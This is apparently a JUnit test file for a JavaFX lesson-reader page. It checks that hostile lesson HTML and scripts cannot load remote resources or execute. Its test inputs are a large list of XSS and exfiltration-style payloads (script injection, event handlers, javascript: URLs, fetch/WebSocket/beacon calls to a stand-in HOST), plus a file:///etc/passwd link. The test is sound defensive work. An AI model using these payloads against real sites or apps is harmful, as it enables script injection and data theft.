package dev.carrel.ui.reader.page;

import static org.assertj.core.api.Assertions.assertThat;

import dev.carrel.ui.HeadlessFx;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import javafx.concurrent.Worker;
import javafx.scene.web.WebView;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// A lesson may come from anyone. Nothing in it may reach a network or run, neither as the page
/// takes it nor if it got into the page as it is. `HOST` stands for a server that counts.
class HostilePageTest {
    private static final String PICTURE =
            """
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" \
            width="9" height="9"><script>parent.hacked = top.hacked = 1</script>\
            <style>@import url(http://HOST/s.css); rect { fill: url(http://HOST/f.svg#x) }</style>\
            <image xlink:href="http://HOST/i.png" width="9" height="9"/>\
            <use href="http://HOST/u.svg#a"/><foreignObject width="9" height="9">\
            <iframe xmlns="http://www.w3.org/1999/xhtml" src="http://HOST/f.html"/></foreignObject>\
            <rect width="9" height="9"/></svg>
            """;

    private static CountingServer server;
    private static PageFixture fixture;

    @BeforeAll
    static void open() {
        server = new CountingServer();
        fixture = new PageFixture();
    }

    @AfterAll
    static void close() throws IOException {
        HeadlessFx.frames(20); // whatever was slow
        assertThat(server.connections()).isZero();
        fixture.close();
        server.close();
    }

    @AfterEach
    void thePageIsStillItself() {
        assertThat(fixture.text("location.host")).endsWith(".carrel.invalid");
        assertThat(fixture.yes("typeof hacked === 'undefined'")).isTrue();
    }

    private static String aimed(String html) {
        return html.replace("HOST", "127.0.0.1:" + server.port());
    }

    private static void settle() {
        HeadlessFx.frames(2);
        assertThat(fixture.yes("typeof hacked === 'undefined'")).isTrue();
        assertThat(server.connections()).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src='http://HOST/i.png'>",
                "<img src='//HOST/i.png'>",
                "<img src='https://HOST/i.png'>",
                "<img srcset='http://HOST/i.png 1x, http://HOST/j.png 2x'>",
                "<picture><source srcset='http://HOST/i.png'><img src='/course/none.png'></picture>",
                "<img src='/course/none.png' onerror='hacked=1'>",
                "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 "
                        + "onload=%22top.hacked=1%22><image href=%22http://HOST/i.png%22/></svg>'>",
                "<script>hacked=1; fetch('http://HOST/x')</script>",
                "<script src='http://HOST/x.js'></script>",
                "<script type='module'>import 'http://HOST/x.js'</script>",
                "<svg><script>hacked=1</script></svg>",
                "<svg onload='hacked=1'><use href='http://HOST/u.svg#a'/></svg>",
                "<svg><image xlink:href='http://HOST/i.png' width='9' height='9'/></svg>",
                "<svg><animate onbegin='hacked=1' attributeName='x' dur='1s'/></svg>",
                "<svg><rect width='9' height='9' style='fill:url(http://HOST/f.svg#x)'/></svg>",
                "<svg><rect width='9' height='9' filter='url(http://HOST/f.svg#x)'/></svg>",
                "<style>@import url(http://HOST/s.css);</style><p>x</p>",
                "<style>@font-face{font-family:e;src:url(http://HOST/f.ttf)}p{font-family:e}</style>"
                        + "<p>x</p>",
                "<style>p{background:url(http://HOST/b.png)}p::before{content:url(http://HOST/c)}"
                        + "</style><p>x</p>",
                "<p style='background-image:url(http://HOST/b.png)'>x</p>",
                "<p style='cursor:url(http://HOST/c.cur),auto'>x</p>",
                "<link rel='stylesheet' href='http://HOST/s.css'>",
                "<link rel='preload' as='image' href='http://HOST/i.png'>",
                "<link rel='prefetch' href='http://HOST/p.html'>",
                "<link rel='modulepreload' href='http://HOST/m.js'>",
                "<link rel='preconnect' href='http://HOST'>",
                "<link rel='dns-prefetch' href='http://HOST'>",
                "<link rel='icon' href='http://HOST/i.ico'>",
                "<link rel='manifest' href='http://HOST/m.json'>",
                "<iframe src='http://HOST/f.html'></iframe>",
                "<iframe srcdoc='<script>top.hacked=1</script><img src=http://HOST/i.png>'></iframe>",
                "<iframe src='javascript:top.hacked=1'></iframe>",
                "<iframe src='data:text/html,<script>top.hacked=1</script>'></iframe>",
                "<frameset><frame src='http://HOST/f.html'></frameset>",
                "<object data='http://HOST/o.svg'></object>",
                "<object data='data:text/html,<script>top.hacked=1</script>'></object>",
                "<embed src='http://HOST/e.svg'>",
                "<video src='http://HOST/v.mp4' poster='http://HOST/p.png' autoplay></video>",
                "<audio src='http://HOST/a.mp3' autoplay></audio>",
                "<video><source src='http://HOST/v.mp4'><track src='http://HOST/t.vtt'></video>",
                "<meta http-equiv='refresh' content='0;url=http://HOST/m.html'>",
                "<meta http-equiv='refresh' content='0;url=javascript:hacked=1'>",
                "<base href='http://HOST/'><img src='i.png'>",
                "<table background='http://HOST/b.png'><tr><td>x</td></tr></table>",
                "<body background='http://HOST/b.png' onload='hacked=1'><p>x</p>",
                "<input type='image' src='http://HOST/i.png'>",
                "<input autofocus onfocus='hacked=1'>",
                "<details open ontoggle='hacked=1'><summary>x</summary></details>",
                "<p onanimationstart='hacked=1' style='animation:rise 1ms'>x</p>",
                "<math><mtext href='javascript:hacked=1'>x</mtext></math>",
                "<noscript><img src='http://HOST/i.png'></noscript>",
                "<template><img src='http://HOST/i.png'></template>",
            })
    void nothingIsLoadedAndNothingRuns(String html) {
        fixture.show(aimed(html) + "<p data-b='p'>The rest</p>");
        settle();
        String quoted = aimed(html).replace("\\", "\\\\").replace("`", "\\`");
        fixture.js("document.getElementById('lesson').innerHTML = `" + quoted + "`");
        settle();
        fixture.js("document.head.insertAdjacentHTML('beforeend', `" + quoted + "`)");
        settle();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "fetch('http://HOST/f').catch(() => {})",
                "fetch('/course/~1/a.txt').catch(() => {})",
                "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/x'); x.send()",
                "new WebSocket('ws://HOST/w')",
                "new EventSource('http://HOST/e')",
                "navigator.sendBeacon?.('http://HOST/b', 'x')",
                "new Image().src = 'http://HOST/i.png'",
                "import('http://HOST/m.js').catch(() => {})",
                "new Worker('http://HOST/w.js')",
                "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://HOST/w\")'])))",
                "eval('hacked = 1')",
                "new Function('hacked = 1')()",
                "setTimeout('hacked = 1', 0)",
                "open('http://HOST/o.html')",
                "document.cookie = 'a=b'; location.assign('http://HOST/l.html')",
                "location.href = 'javascript:hacked = 1'",
                "location.href = 'data:text/html,<script>hacked = 1</script>'",
                "const s = document.createElement('script'); s.textContent = 'hacked = 1';"
                        + " document.body.append(s)",
                "const s = document.createElement('script');"
                        + " s.src = URL.createObjectURL(new Blob(['hacked = 1'])); document.body.append(s)",
                "const s = document.createElement('script'); s.src = '/course/~1/evil.js';"
                        + " document.body.append(s)",
                "const f = document.createElement('form'); f.action = 'http://HOST/f';"
                        + " document.body.append(f); f.submit()",
                "const f = document.createElement('iframe'); document.body.append(f);"
                        + " f.contentWindow?.eval('fetch(\"http://HOST/i\")')",
            })
    void evenAScriptReachesNothing(String script) {
        // What the page's own policy stops, it stops for every script in it.
        String wrapped = "(() => { try { " + aimed(script) + " } catch (e) { void e } })()";
        fixture.show("<p data-b='p'>Quiet</p>");
        fixture.js(wrapped);
        HeadlessFx.frames(3);
        HeadlessFx.await("the page", fixture.page::ready);
        settle();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<a href='http://HOST/l.html'>x</a>",
                "<a href='http://HOST/l.html' target='_blank'>x</a>",
                "<a href='http://HOST/d' download>x</a>",
                "<a href='/lesson/m1' ping='http://HOST/ping'>x</a>",
                "<a href='javascript:hacked=1'>x</a>",
                "<a href=' java&#10;script:hacked=1'>x</a>",
                "<a href='data:text/html,<script>hacked=1</script>'>x</a>",
                "<a href='file:///etc/passwd'>x</a>",
                "<a href='/page/main.js'>x</a>",
                "<svg><a xlink:href='javascript:hacked=1'><text y='9'>x</text></a></svg>",
                "<form action='http://HOST/f'><button>x</button></form>",
                "<button formaction='http://HOST/f'>x</button>",
                "<map name='m'><area href='http://HOST/a' shape='default'></map>",
            })
    void aClickGoesNowhere(String html) {
        String click =
                "document.querySelectorAll('#lesson a, #lesson button, #lesson area').forEach(e => "
                        + "e.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})))";
        fixture.show(aimed(html));
        fixture.js(click);
        settle();
        fixture.js("document.getElementById('lesson').innerHTML = `" + aimed(html) + "`");
        fixture.js(click);
        settle();
    }

    @Test
    void aPictureOfTheCourseIsOnlyAPicture() {
        var files =
                PageFixture.files(
                        Map.of(
                                "a.svg", aimed(PICTURE).getBytes(StandardCharsets.UTF_8),
                                "page.html",
                                        "<script>top.hacked=1</script>"
                                                .getBytes(StandardCharsets.UTF_8),
                                "evil.js", "hacked = 1".getBytes(StandardCharsets.UTF_8)));
        var lesson =
                PageFixture.lesson(
                        "<p data-b='p'><img src='/course/a.svg'><img src='/course/page.html'></p>",
                        List.of());
        fixture.show(lesson, files, PageState.FRESH);
        fixture.awaitYes("[...document.images].every(i => i.complete)");
        settle();
        assertThat(fixture.yes("document.querySelector('#lesson img').naturalWidth === 9"))
                .isTrue();
    }

    @Test
    void aWebViewWithoutAnyPolicyStillReachesNothing() {
        var view = HeadlessFx.call(WebView::new);
        var stage = HeadlessFx.show(new javafx.scene.layout.StackPane(view), 200, 200);
        HeadlessFx.run(() ->
                view.getEngine()
                        .loadContent(
                                aimed(
                                        "<img src='http://HOST/i.png'><script>fetch('http://HOST/f')</script>"
                                                + "<iframe src='http://HOST/f.html'></iframe>")));
        HeadlessFx.await(
                "the page",
                () -> view.getEngine().getLoadWorker().getState() == Worker.State.SUCCEEDED);
        HeadlessFx.frames(10);
        HeadlessFx.close(stage);
        assertThat(server.connections()).isZero();
    }

    @Test
    void theServerWouldHaveCounted() throws IOException {
        try (var counting = new CountingServer();
                var socket = new Socket(InetAddress.getLoopbackAddress(), counting.port())) {
            assertThat(socket.getInputStream().readAllBytes()).isNotEmpty();
            assertThat(counting.connections()).isEqualTo(1);
        }
    }
}
